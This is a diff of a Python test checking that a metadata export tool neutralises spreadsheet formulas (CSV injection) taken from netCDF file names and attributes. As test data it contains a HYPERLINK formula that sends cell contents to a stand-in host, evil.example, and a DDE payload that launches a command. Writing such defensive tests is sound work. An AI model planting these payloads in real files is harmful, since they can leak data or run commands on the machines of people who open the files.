@@ -802,18 +802,20 @@ def test_spreadsheet_formulas_in_attributes_are_neutralised_in_csv_exports(tmp_p
     data = tmp_path / "data"
     data.mkdir()
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    for i in range(3):
-        with netCDF4.Dataset(data / f"f{i}.nc", "w") as ds:
+    for i in range(3):  # a file's name becomes its dataset's name, a cell of the collection
+        with netCDF4.Dataset(data / f"@SUM(1+1)-{i}.nc", "w") as ds:
             ds.createDimension("time", 2)
             ds.createVariable("tas", "f4", ("time",))[:] = [1.0, 2.0]
             ds.title, ds.institution = formula, "@SUM(1+1)*cmd|' /C calc'!A0"
+            ds.source = "model"  # a word: a grouping column
     out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
     assert out.returncode == 0, out.stderr[-2000:]
     out = run(["metaextract", "export", str(tmp_path / "cat"), "--to", "esm"])
     assert out.returncode == 0, out.stderr[-2000:]
     with open(tmp_path / "cat.esm" / "collection.csv", newline="") as f:
         rows = list(csv.DictReader(f))
-    assert len(rows) == 3 and rows[0]["title"] == "'" + formula  # kept, as text
+    assert len(rows) == 3 and rows[0]["source"] == "model" and "title" not in rows[0]  # a formula is no word: no group
+    assert sorted(row["dataset"] for row in rows) == ["'@SUM(1+1)-0", "'@SUM(1+1)-1", "'@SUM(1+1)-2"]  # kept, as text
     cells = [cell for row in rows for cell in row.values()]
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
 
